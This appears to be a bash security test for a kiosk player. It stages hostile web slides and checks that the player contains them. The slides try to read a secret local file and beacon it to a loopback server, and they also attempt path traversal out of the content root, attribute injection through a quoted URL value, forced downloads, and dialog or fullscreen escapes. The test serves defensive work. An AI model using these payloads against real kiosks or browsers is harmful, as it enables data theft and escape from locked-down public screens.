#!/usr/bin/env bash
# A public screen shows pages nobody here wrote, and anyone can reach its
# mouse. Each hostile slide below tries one way out of the kiosk (dialogs,
# printing, an endless script, downloads, reading local files, a context
# menu, leaving the slide, a dark page, file and colour choosers, a drop-down
# list, full screen, permissions, a password form, filling storage, files
# outside the content root, a slide value that climbs out of it or adds
# markup) and is followed by a sentinel slide of its own green: the attack
# is contained when no other window appears, nothing lands in HOME, no local
# file reaches the loopback server, and every sentinel comes on screen in
# turn. The page process runs in its own namespaces. The playlist itself is
# a link to a file outside the content root (a user's own file): it plays,
# and the player writes nothing there. Then the display window is asked to
# close and is unmapped by another client: it stays, or comes back.
source "$(dirname "$0")/lib.sh"
X_WINDOWS="$VELANE_BUILD/x_windows"

make_root
paint_root '#3060c0'
export HOME="$ROOT_DIR/home" XDG_DOWNLOAD_DIR="$ROOT_DIR/home/Downloads"
mkdir -p "$XDG_DOWNLOAD_DIR"
SECRET="SECRET-$RANDOM$RANDOM"
echo "$SECRET" >"$ROOT_DIR/secret.txt"
# Files outside the content root, which no slide may show or load.
OUT="$(mktemp -d /tmp/velane-outside-XXXXXX)"

LOG="$ROOT_DIR/server.log"
touch "$LOG"
coproc SERVER { exec python3 "$(dirname "$0")/hostile_server.py" "$LOG"; }
read -r -t 10 PORT <&"${SERVER[0]}"
SERVER_URL="http://127.0.0.1:$PORT"
# Beside the root, so that a player run in another root tree sees it too.
OWN="$ROOT_DIR-own"
mkdir -p "$OWN"
stop_server() { kill "$SERVER_PID" 2>/dev/null || true; rm -rf "$OUT" "$OWN"; }
trap 'stop_server; cleanup' EXIT

head='<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><style>html,body{margin:0;height:100%;overflow:hidden}</style>'
beacon="<script>function beacon(t){new Image().src='$SERVER_URL/beacon?'+encodeURIComponent(t);}</script></head>"
page() {  # page SECTION FILE BODY...
  mkdir -p "$ROOT_DIR/flashs/$(printf %05d "$1")"
  local f="$ROOT_DIR/flashs/$(printf %05d "$1")/$2"; shift 2
  printf '%s\r\n' "$head" "$beacon" "$@" '</html>' >"$f"
}
M="$ROOT_DIR/modeles"
printf '%s\r\n' "$head" '</head><body><img src="%FICHIER%" style="display:block;width:100%;height:100%"></body></html>' >"$M/image.html"
printf '%s\r\n' "$head" '</head><body style="background:#000"><iframe src="%URL%" style="border:0;width:100%;height:100%"></iframe></body></html>' >"$M/url.html"
: >"$M/transitions.ini"

# Hostile slides, each with a colour of its own once its attack has run.
page 1 p.html '<body><script>alert("a"); beacon("confirm=" + confirm("c")); beacon("prompt=" + prompt("p", "typed"));' \
  'onbeforeunload = function(e) { e.preventDefault(); e.returnValue = "stay"; return "stay"; };' \
  'document.body.style.background = "#C00000";</script></body>'
# Page 3 also asks the view to hold the picture before it, again and again,
# and never says its own picture is ready: its colour must still show.
page 3 p.html '<body style="background:#C0C000"><script>var h = window.webkit && webkit.messageHandlers.velane;' \
  'if (h) { h.postMessage({hold: 1}); h.postMessage(7); for (var i = 0; i < 100; ++i) h.postMessage("hold"); beacon("held"); }' \
  'window.print(); beacon("printed");</script></body>'
page 5 p.html '<body style="background:#0000C0"><script>setTimeout(function() { beacon("looping"); for (;;) {} }, 500);</script></body>'
page 7 p.html '<body style="background:#C000C0"><a id="a" download="x.txt" href="data:text/plain,DLPAYLOAD1">x</a>' \
  "<iframe style=\"width:8px;height:8px\" src=\"$SERVER_URL/attach.html\"></iframe><iframe style=\"width:8px;height:8px\" src=\"$SERVER_URL/attach.bin\"></iframe>" \
  '<script>document.getElementById("a").click(); var l = document.createElement("a");' \
  'l.href = URL.createObjectURL(new Blob(["DLPAYLOAD2"])); l.download = "y.bin"; document.body.appendChild(l); l.click();' \
  'beacon("download-clicked");</script></body>'
page 9 p.html '<body style="background:#00C0C0"><script>beacon("hello");' \
  "fetch(\"file://$ROOT_DIR/secret.txt\").then(function(r) { return r.text(); }).then(beacon, function() { beacon(\"fetch-refused\"); });" \
  'fetch("../../secret.txt").then(function(r) { return r.text(); }).then(beacon, function() { beacon("relative-fetch-refused"); });' \
  "var x = new XMLHttpRequest(); try { x.open(\"GET\", \"file://$ROOT_DIR/secret.txt\"); x.onload = function() { beacon(x.responseText); };" \
  'x.onerror = function() { beacon("xhr-refused"); }; x.send(); } catch (e) { beacon("xhr-refused"); }</script>' \
  "<iframe id=\"f\" style=\"width:8px;height:8px\" src=\"file://$ROOT_DIR/secret.txt\" onload=\"try { beacon(this.contentDocument.body.innerText); } catch (e) { beacon('iframe-refused'); }\"></iframe></body>"
page 11 p.html '<body style="background:#808000"><a href="file:///" onmousedown="beacon(&quot;clicked&quot;)" style="display:block;width:100%;height:100%"></a>' \
  "<form id=\"f\" method=\"post\" action=\"$SERVER_URL/form\"><input name=\"q\" value=\"posted\"></form>" \
  '<script>setTimeout(function() { document.getElementById("f").submit(); }, 3000);</script></body>'
page 15 p.html '<body><p style="color:#000">Black text on a page with no background of its own.</p></body>'
# Four fields a passer-by taps, low on the screen (away from the quit
# window): a file, a colour, a drop-down list, and a button asking for full
# screen. Each tap is told to the server.
field='position:absolute;top:380px;width:160px;height:80px'
page 17 p.html '<body style="background:#A05000">' \
  "<input type=\"file\" style=\"$field;left:20px\" onclick=\"beacon('file-tapped')\">" \
  "<input type=\"color\" style=\"$field;left:200px\" onclick=\"beacon('colour-tapped')\">" \
  "<select style=\"$field;left:380px\" onmousedown=\"beacon('list-tapped')\"><option>a</option><option>b</option></select>" \
  "<div style=\"$field;left:560px;background:#505050\" onclick=\"beacon('fullscreen-asked');" \
  "document.documentElement.requestFullscreen().then(function() { beacon('fullscreen-entered'); }," \
  "function() { beacon('fullscreen-refused'); })\"></div></body>"
page 19 p.html '<body style="background:#5000A0"><script>beacon("permissions-asked");' \
  'navigator.geolocation.getCurrentPosition(function() { beacon("location-given"); }, function() { beacon("location-denied"); });' \
  'Notification.requestPermission().then(function(p) { beacon("notifications-" + p); });' \
  '</script></body>'
# A page that fills local storage and a database with 32 MB.
page 24 p.html '<body style="background:#A0A0A0"><script>var chunk = new Array(1 << 20).join("x"); var n = 0;' \
  'try { for (var i = 0; i < 8; i++) localStorage.setItem("k" + i, chunk); } catch (e) {}' \
  'var open = indexedDB.open("fill", 1); open.onupgradeneeded = function() { open.result.createObjectStore("s"); };' \
  'open.onsuccess = function() { var t = open.result.transaction("s", "readwrite");' \
  'for (var i = 0; i < 32; i++) t.objectStore("s").put(chunk + i, i); t.oncomplete = function() { beacon("stored-32MB"); }; };' \
  '</script></body>'
# Frames, pictures and scripts outside the content root, beside their twins
# in the slide's folder.
beacon_page() {  # beacon_page FILE WORD: a magenta page that tells the server the word
  mkdir -p "$(dirname "$1")"
  printf '%s\r\n' "$head" "$beacon" "<body style=\"background:#FF0080\"><script>beacon(\"$2\")</script></body></html>" >"$1"
}
beacon_page "$OUT/o.html" outside-frame; beacon_page "$OUT/o2.html" outside-page
beacon_page "$ROOT_DIR/flashs/00026/in.html" inside-frame
printf "beacon('%s');" outside-script >"$OUT/o.js"; printf "beacon('%s');" inside-script >"$ROOT_DIR/flashs/00026/in.js"
for f in "$OUT/o.svg" "$ROOT_DIR/flashs/00026/in.svg"; do
  printf '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4" fill="#FF0080"/></svg>' >"$f"
done
page 26 p.html '<body style="background:#30A030">' \
  "<iframe style=\"width:8px;height:8px\" src=\"file://$OUT/o.html\"></iframe>" \
  "<iframe style=\"width:8px;height:8px\" src=\"../../../$(basename "$OUT")/o.html\"></iframe>" \
  '<iframe style="width:8px;height:8px" src="in.html"></iframe>' \
  "<img src=\"file://$OUT/o.svg\" onload=\"beacon('outside-picture')\"><img src=\"in.svg\" onload=\"beacon('inside-picture')\">" \
  "<script src=\"file://$OUT/o.js\"></script><script src=\"in.js\"></script></body>"

# Sentinels: greens of their own; the fifth is a picture by relative name,
# which composed pages must still be able to show.
sentinel_colour() { printf '#00%02X00' $((0xFF - 0x11 * ($1 - 1))); }
for k in 1 2 3 4 6 7 8; do
  page $((2 * k)) p.html "<body style=\"background:$(sentinel_colour $k)\"></body>"
done
for pair in 18:9 20:10 23:11 25:12 27:13 29:14 31:15; do
  page "${pair%:*}" p.html "<body style=\"background:$(sentinel_colour "${pair#*:}")\"></body>"
done
mkdir -p "$ROOT_DIR"/flashs/000{10,13,21,22,28,30}
printf '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="%s"/></svg>' \
  "$(sentinel_colour 5)" >"$ROOT_DIR/flashs/00010/s.svg"

slide() {  # slide SECTION TYPE VALUE DWELL NEXT
  printf '%s\r\n' "[section $1]" "Type=$2" "$2=$3" "delais secondes=$4" "section suivante=$5"
}
{
  printf '%s\r\n' '[section 0]' 'section suivante=1'
  slide 1 html p.html 3 2;  slide 2 html p.html 1 3
  slide 3 html p.html 3 4;  slide 4 html p.html 1 5
  slide 5 html p.html 1 6;  slide 6 html p.html 8 7
  slide 7 html p.html 2 8;  slide 8 html p.html 1 9
  slide 9 html p.html 2 10; slide 10 image s.svg 1 11
  slide 11 html p.html 4 12; slide 12 html p.html 1 13
  slide 13 url "$SERVER_URL/top" 2 14; slide 14 html p.html 1 15
  slide 15 html p.html 1 16; slide 16 html p.html 1 17
  slide 17 html p.html 9 18; slide 18 html p.html 1 19
  slide 19 html p.html 3 20; slide 20 html p.html 1 21
  slide 21 url "$SERVER_URL/auth" 2 22; slide 22 url "$SERVER_URL/noauth" 2 23
  slide 23 html p.html 1 24; slide 24 html p.html 6 25
  slide 25 html p.html 1 26; slide 26 html p.html 3 27
  slide 27 html p.html 1 28
  # A value that climbs out of the content root, and one whose ".." stays in.
  slide 28 html "../../../$(basename "$OUT")/o2.html" 2 29; slide 29 html ../00029/p.html 1 30
  # An address with a query, and a quote that would add an attribute.
  slide 30 url "$SERVER_URL/q?a=1&b=2\" onload=\"new Image().src='$SERVER_URL/beacon?injected'" 2 31
  slide 31 html p.html 600 1
} >"$OWN/playlist.ini"
# No [Systeme] keys: the player would write their defaults back.
cp "$OWN/playlist.ini" "$ROOT_DIR/playlist.before"
ln -s "../$(basename "$OWN")/playlist.ini" "$ROOT_DIR/VELANE_Afficheur.ini"

start_player RUNTIME
if ! wait_until 20 fullscreen_window_mapped; then
  fail "the display window is mapped"
  # What the screen and the player were doing, for whoever reads the log.
  xwininfo -root -tree | grep -v '(has no name): ()  1x1+' | head -20 >&2 || true
  tail -20 "$ROOT_DIR/player.log" >&2 || true
  if player_alive; then echo "the player is running" >&2; else echo "the player has ended" >&2; fi
else
  pass "the display window is mapped"
fi

# Watch the centre of the display area and the mapped windows; act as a
# passer-by when the slides that need a hand come up.
seen=""
strangers=""
quit_window_seen=0
clicked_dialogs=0
clicked_nav=0
tapped=0
home_before="$(du -sk "$HOME" | cut -f1)"
last_sentinel="$(sentinel_colour 15)"
for _ in $(seq 480); do
  screenshot "$ROOT_DIR/s.png"
  c="$(pixel "$ROOT_DIR/s.png" 384 288)"
  [[ "$seen" == *"$c" ]] || seen+=" $c"
  while read -r id geometry; do
    case "$geometry" in
      "$(xdpyinfo | awk '/dimensions:/{print $2}')+0+0") ;;
      437x54+*) quit_window_seen=1 ;;
      *) strangers+=" $geometry" ;;
    esac
  done < <("$X_WINDOWS" list)
  if [[ "$c" == "#C00000" && $clicked_dialogs -eq 0 ]]; then
    # A click gives the page the user activation a "leave this page?" needs.
    xdotool mousemove 384 288 click 1; clicked_dialogs=1
  fi
  if [[ "$c" == "#808000" && $clicked_nav -eq 0 ]]; then
    xdotool mousemove 380 280 click 3; sleep 0.3
    "$X_WINDOWS" list >"$ROOT_DIR/after-right-click"
    grep -q ' 437x54+' "$ROOT_DIR/after-right-click" && quit_window_seen=1
    grep -v -e '+0+0$' -e ' 437x54+' "$ROOT_DIR/after-right-click" >>"$ROOT_DIR/menus" || true
    xdotool key Escape click 1; clicked_nav=1
  fi
  if [[ "$c" == "#A05000" && $tapped -eq 0 ]]; then
    # Each field tapped in turn; a window it opened would show in the list.
    for x in 100 280 460 640; do
      xdotool mousemove "$x" 420 click 1; sleep 0.7
      "$X_WINDOWS" list | grep -v -e '+0+0$' -e ' 437x54+' >>"$ROOT_DIR/menus" || true
    done
    screenshot "$ROOT_DIR/tapped.png"
    xdotool key Escape; tapped=1
  fi
  [[ "$c" == "$last_sentinel" ]] && break
  sleep 0.1
done
echo "colours at the centre, in order:$seen"
[[ -s "$ROOT_DIR/menus" ]] && strangers+=" $(tr '\n' ' ' <"$ROOT_DIR/menus")"

order=""
for k in $(seq 15); do order+=".*$(sentinel_colour $k)"; done
check "every sentinel came on screen, in order" grep -qE "$order" <<<"$seen"
check "no other window appeared (dialog, print dialog, menu, file chooser):${strangers:- none}" test -z "$strangers"
check "control: the window watch saw the quit window after the click" test "$quit_window_seen" -eq 1
check "dialogs answered: confirm went on, prompt was cancelled" \
  grep -q 'confirm%3Dtrue' "$LOG" && grep -q 'prompt%3Dnull' "$LOG"
check "the page's dialogs ran before its colour was set" grep -q '#C00000' <<<"$seen"
check "printing was attempted (control)" grep -q 'beacon?printed' "$LOG"
check "the page asked the view to hold the slide before (control)" grep -q 'beacon?held' "$LOG"
check "a page that holds and never says ready still shows" grep -q '#C0C000' <<<"$seen"
check "the endless script ran (control)" grep -q 'beacon?looping' "$LOG"
check "the hung page process was ended" grep -q 'stopped answering' "$ROOT_DIR/player.log"
check "the downloads were attempted (control)" grep -q 'beacon?download-clicked' "$LOG"
check "the attachment was fetched (control)" grep -q 'GET /attach.html' "$LOG"
check "nothing was downloaded into HOME" bash -c "! grep -rqs DLPAYLOAD '$HOME'"
check "the file page reached the server (control)" grep -q 'beacon?hello' "$LOG"
check "no local file reached the server" bash -c "! grep -q '$SECRET' '$LOG'"
check "local reads were refused in the page" grep -q 'fetch-refused' "$LOG"
check "the picture slide by relative name showed" grep -q "$(sentinel_colour 5)" <<<"$seen"
check "the link was clicked and the form sent (control)" \
  grep -q 'beacon?clicked' "$LOG" && grep -q 'POST /form' "$LOG"
check "the link and the form did not leave the slide" grep -qE "#808000 $(sentinel_colour 6)" <<<"$seen"
check "the framed site tried top.location (control)" grep -q 'beacon?top-attempt' "$LOG"
check "the framed site never took the view" bash -c "! grep -qi '#FF00FF' <<<'$seen'"
check "a page without background is white" grep -qE "$(sentinel_colour 7).*#FFFFFF" <<<"$seen"
check "the four fields were tapped (control)" bash -c "grep -q beacon?file-tapped '$LOG' && grep -q beacon?colour-tapped '$LOG' &&
  grep -q beacon?list-tapped '$LOG' && grep -q beacon?fullscreen-asked '$LOG'"
for what in "a file chooser" "a colour chooser" "a drop-down list" "full screen for an element"; do
  check "$what was refused and told" grep -q "refused: $what" "$ROOT_DIR/player.log"
done
check "control: the tapped page covers the display area" test "$(pixel "$ROOT_DIR/tapped.png" 384 288)" = "#A05000"
# The engine may tell the page it is in full screen (within the view); the
# view and the display window keep their place and size.
check "the view kept its size after the full-screen request" test "$(pixel "$ROOT_DIR/tapped.png" 1000 650)" != "#A05000"
check "the permission requests ran (control)" grep -q 'beacon?permissions-asked' "$LOG"
check "location and notifications were denied by the player" bash -c "grep -q 'beacon?location-denied' '$LOG' &&
  grep -q 'beacon?notifications-denied' '$LOG' && grep -q 'refused: a permission: location' '$ROOT_DIR/player.log'"
check "control: a refusal without a challenge shows its page" grep -q '#A0A040' <<<"$seen"
check "a password challenge shows the site's page, not a form" grep -q '#40A0A0' <<<"$seen"
check "the password form was refused and told" grep -q 'refused: a password form' "$ROOT_DIR/player.log"
check "the page stored 32 MB (control)" grep -q 'beacon?stored-32MB' "$LOG"
home_after="$(du -sk "$HOME" | cut -f1)"
check "HOME did not grow with it ($home_before KB, then $home_after KB)" test "$home_after" -lt $((home_before + 1024))
check "control: the slide folder's frame, picture and script loaded" bash -c "grep -q beacon?inside-frame '$LOG' &&
  grep -q beacon?inside-picture '$LOG' && grep -q beacon?inside-script '$LOG'"
check "no frame, picture or script outside the content root loaded" bash -c "! grep -q 'beacon?outside' '$LOG'"
check "control: a value whose .. stays in the root shows" grep -q "$(sentinel_colour 14)" <<<"$seen"
check "a value that climbs out of the root is told" grep -q 'section 28.*outside the content root' "$ROOT_DIR/player.log"
check "control: the address with a query was reached whole" grep -q 'GET /q?a=1&b=2' "$LOG"
check "a quote in a value added no attribute" bash -c "! grep -q '^GET /beacon?injected' '$LOG'"
# The page process sees a file system and processes of its own (as root,
# bwrap needs no user namespace); the network process, outside the sandbox,
# shows what sharing the player's looks like.
descendants() { local p; for p in $(pgrep -P "$1"); do echo "$p"; descendants "$p"; done; }
web="" net=""
for p in $(descendants "$PLAYER_PID"); do
  case "$(cat "/proc/$p/comm" 2>/dev/null)" in
    WebKitWebProces) web="$p" ;;
    WebKitNetworkPr) net="$p" ;;
  esac
done
ns() { readlink "/proc/$1/ns/$2" 2>/dev/null || true; }
check "control: the network process shares the player's namespaces" test -n "$net" -a \
  "$(ns "$net" mnt) $(ns "$net" pid)" = "$(ns "$PLAYER_PID" mnt) $(ns "$PLAYER_PID" pid)"
check "the page process runs in mount and process namespaces of its own" test -n "$web" -a \
  "$(ns "$web" mnt)" != "$(ns "$PLAYER_PID" mnt)" -a "$(ns "$web" pid)" != "$(ns "$PLAYER_PID" pid)"

# The display window: a close request does nothing, an unmap is undone.
display="$("$X_WINDOWS" list | awk -v g="$(xdpyinfo | awk '/dimensions:/{print $2}')+0+0" '$2 == g {print $1; exit}')"
"$X_WINDOWS" close "$display"
sleep 1
check "a close request leaves the display window on screen" bash -c "'$X_WINDOWS' list | grep -q '^$display '"
xdotool windowunmap "$display"
check "control: the unmap took the window off the screen" bash -c "! '$X_WINDOWS' list | grep -q '^$display '"
check "the display window comes back within a second" wait_until 1 bash -c "'$X_WINDOWS' list | grep -q '^$display '"
sleep 0.5
screenshot "$ROOT_DIR/s.png"
check "the last sentinel is on screen again" test "$(pixel "$ROOT_DIR/s.png" 384 288)" = "$last_sentinel"
check "the player is still running" player_alive
check "the playlist linked out of the content root is byte for byte as it was" \
  cmp -s "$OWN/playlist.ini" "$ROOT_DIR/playlist.before"
check "the linked playlist is still a link" test -L "$ROOT_DIR/VELANE_Afficheur.ini"
check "the skipped write-back was told, once" \
  test "$(grep -c '\[playlist-outside-root\] .*leads outside the content root' "$ROOT_DIR/player.log")" -eq 1
echo "--- player's reports"; grep -v '^fake shutdown' "$ROOT_DIR/player.log" | head -20 || true

# Control: a playlist linked to a file inside the root gets its defaults.
stop_player
mkdir -p "$ROOT_DIR/listes"
{ printf '%s\r\n' '[section 0]' 'section suivante=2'; slide 2 html p.html 600 2; } >"$ROOT_DIR/listes/hall.ini"
ln -sfn listes/hall.ini "$ROOT_DIR/VELANE_Afficheur.ini"
start_player RUNTIME
check "control: a playlist linked inside the root gets the defaults written back" \
  wait_until 20 grep -q '^TailleEcranL=768' "$ROOT_DIR/listes/hall.ini"
check "control: it is still a link, and nothing was told" bash -c \
  "test -L '$ROOT_DIR/VELANE_Afficheur.ini' && ! grep -q playlist-outside-root '$ROOT_DIR/player.log'"
finish
